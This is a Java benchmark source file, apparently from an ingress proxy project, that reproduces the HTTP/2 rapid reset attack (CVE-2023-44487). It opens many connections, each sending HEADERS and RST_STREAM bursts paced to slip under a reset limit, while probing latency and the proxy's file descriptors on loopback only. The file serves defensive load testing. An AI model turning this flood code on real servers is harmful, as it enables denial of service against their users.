package io.kubeway.bench;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.Stream;

/**
 * The HTTP/2 rapid reset attack of issue 7 (CVE-2023-44487 spread over connections) against a running Ingress
 * listener, with a probe beside it: {@code CONNS} cleartext HTTP/2 connections each send {@code STREAMS} pairs of
 * HEADERS + RST_STREAM within {@code SECONDS} (under Netty's default of 200 resets per 30 s per connection),
 * while a probe sends one HTTP/1.1 GET on a new connection every 100 ms, from a second before the attack to two
 * seconds after. Prints the probe latencies (p50, p99, max, failures) and the peak fd count of the proxy process
 * ({@code /proc/PID/fd}, sampled every 20 ms). Loopback only; bounded in connections and time.
 *
 * <p>Usage: {@code RapidResetBench HOST:PORT HOSTHEADER PID [CONNS] [STREAMS] [SECONDS]}; {@code bench/rapid-reset.sh}
 * runs it against a fresh {@code kubeway run}.
 */
public final class RapidResetBench {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);

    private RapidResetBench() {
    }

    public static void main(String[] args) throws Exception {
        String[] hp = args[0].split(":");
        InetSocketAddress target = new InetSocketAddress(hp[0], Integer.parseInt(hp[1]));
        String host = args[1];
        long pid = Long.parseLong(args[2]);
        int conns = args.length > 3 ? Integer.parseInt(args[3]) : 200;
        int streams = args.length > 4 ? Integer.parseInt(args[4]) : 190;
        int seconds = args.length > 5 ? Integer.parseInt(args[5]) : 9;
        if (!target.getAddress().isLoopbackAddress()) throw new IllegalArgumentException("loopback targets only");

        AtomicLong fdPeak = new AtomicLong();
        long fdBefore = fds(pid);
        Thread sampler = Thread.ofPlatform().daemon().start(() -> {
            while (!Thread.currentThread().isInterrupted()) {
                fdPeak.accumulateAndGet(fds(pid), Math::max);
                try {
                    Thread.sleep(20);
                } catch (InterruptedException e) {
                    return;
                }
            }
        });
        List<Long> latencies = Collections.synchronizedList(new ArrayList<>());
        AtomicInteger probeFailures = new AtomicInteger();
        List<String> failures = Collections.synchronizedList(new ArrayList<>());
        long probeEnd = System.nanoTime() + (seconds + 3) * 1_000_000_000L;
        Thread probe = Thread.ofPlatform().start(() -> {
            long next = System.nanoTime();
            while (next - probeEnd < 0) {
                long t0 = System.nanoTime();
                String failure = get(target, host);
                if (failure == null) {
                    latencies.add(System.nanoTime() - t0);
                } else {
                    probeFailures.incrementAndGet();
                    failures.add(failure);
                }
                next += 100_000_000L;
                long wait = next - System.nanoTime();
                if (wait > 0) sleepNanos(wait);
            }
        });
        Thread.sleep(1000);

        AtomicInteger sent = new AtomicInteger();
        AtomicInteger broken = new AtomicInteger();
        CountDownLatch done = new CountDownLatch(conns);
        long attackStart = System.nanoTime();
        for (int c = 0; c < conns; c++) {
            Thread.ofVirtual().start(() -> {
                try {
                    attack(target, host, streams, seconds, sent);
                } catch (IOException e) {
                    broken.incrementAndGet();
                } finally {
                    done.countDown();
                }
            });
        }
        done.await();
        double attackSeconds = (System.nanoTime() - attackStart) / 1e9;
        probe.join();
        sampler.interrupt();

        List<Long> sorted = new ArrayList<>(latencies);
        Collections.sort(sorted);
        System.out.printf("attack: %d connections, %d HEADERS+RST_STREAM sent in %.1f s, %d connections cut by the proxy%n",
                conns, sent.get(), attackSeconds, broken.get());
        System.out.printf("probe: %d answered, %d failed; latency p50 %.1f ms, p99 %.1f ms, max %.1f ms%n", sorted.size(),
                probeFailures.get(), pct(sorted, 0.50), pct(sorted, 0.99), pct(sorted, 1.0));
        if (!failures.isEmpty()) System.out.println("probe failures: " + new java.util.TreeSet<>(failures));
        System.out.printf("proxy fds: %d before, peak %d (includes the %d attack sockets)%n", fdBefore, fdPeak.get(), conns);
    }

    /** One attacking connection: preface, SETTINGS, then {@code streams} HEADERS+RST_STREAM pairs in bursts of 10. */
    private static void attack(InetSocketAddress target, String host, int streams, int seconds, AtomicInteger sent)
            throws IOException {
        try (Socket s = new Socket()) {
            s.connect(target, 5_000);
            s.setTcpNoDelay(true);
            OutputStream out = s.getOutputStream();
            InputStream in = s.getInputStream();
            out.write(PREFACE);
            out.write(frame(0x4, 0, 0, new byte[0])); // SETTINGS
            out.flush();
            Thread.ofVirtual().start(() -> drain(in));
            out.write(frame(0x4, 0x1, 0, new byte[0])); // SETTINGS ACK (the server's SETTINGS came first)
            byte[] block = headerBlock(host);
            int bursts = Math.max(1, streams / 10);
            long gap = seconds * 1_000_000_000L / bursts;
            long next = System.nanoTime();
            int id = 1;
            for (int b = 0, n = 0; b < bursts && n < streams; b++) {
                ByteBuffer burst = ByteBuffer.allocate(10 * (9 + block.length + 9 + 4));
                for (int i = 0; i < 10 && n < streams; i++, n++, id += 2) {
                    burst.put(frame(0x1, 0x5, id, block)); // HEADERS, END_STREAM | END_HEADERS
                    burst.put(frame(0x3, 0, id, new byte[] {0, 0, 0, 8})); // RST_STREAM CANCEL
                    sent.incrementAndGet();
                }
                out.write(burst.array(), 0, burst.position());
                out.flush();
                next += gap;
                long wait = next - System.nanoTime();
                if (wait > 0) sleepNanos(wait);
            }
            sleepNanos(500_000_000L); // let the last resets land before the connection goes
        }
    }

    /** GET / with static-table indexes and a literal :authority: stateless HPACK, the same bytes for every stream. */
    private static byte[] headerBlock(String host) {
        byte[] h = host.getBytes(StandardCharsets.US_ASCII);
        ByteBuffer b = ByteBuffer.allocate(5 + h.length);
        b.put((byte) 0x82).put((byte) 0x86).put((byte) 0x84); // :method GET, :scheme http, :path /
        b.put((byte) 0x01).put((byte) h.length).put(h); // :authority, literal without indexing
        return b.array();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        ByteBuffer b = ByteBuffer.allocate(9 + payload.length);
        b.put((byte) (payload.length >>> 16)).put((byte) (payload.length >>> 8)).put((byte) payload.length);
        b.put((byte) type).put((byte) flags).putInt(stream).put(payload);
        return b.array();
    }

    private static void drain(InputStream in) {
        byte[] buf = new byte[16 * 1024];
        try {
            while (in.read(buf) >= 0) {
                // responses and resets are not looked at
            }
        } catch (IOException ignored) {
            // closed
        }
    }

    /** One GET on a new connection; null if it got a 200 within 5 s, else what went wrong. */
    private static String get(InetSocketAddress target, String host) {
        try (Socket s = new Socket()) {
            s.connect(target, 5_000);
            s.setSoTimeout(5_000);
            s.getOutputStream().write(("GET / HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            String head = new String(s.getInputStream().readNBytes(12), StandardCharsets.US_ASCII);
            s.getInputStream().readAllBytes();
            return head.startsWith("HTTP/1.1 200") ? null : head.isEmpty() ? "closed without answer" : head;
        } catch (IOException e) {
            return e.toString();
        }
    }

    private static long fds(long pid) {
        try (Stream<Path> s = Files.list(Path.of("/proc", Long.toString(pid), "fd"))) {
            return s.count();
        } catch (IOException | RuntimeException e) {
            return -1;
        }
    }

    private static double pct(List<Long> sorted, double p) {
        if (sorted.isEmpty()) return Double.NaN;
        int i = (int) Math.min(sorted.size() - 1, Math.ceil(p * sorted.size()) - 1);
        return sorted.get(Math.max(0, i)) / 1e6;
    }

    private static void sleepNanos(long nanos) {
        try {
            Thread.sleep(nanos / 1_000_000, (int) (nanos % 1_000_000));
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
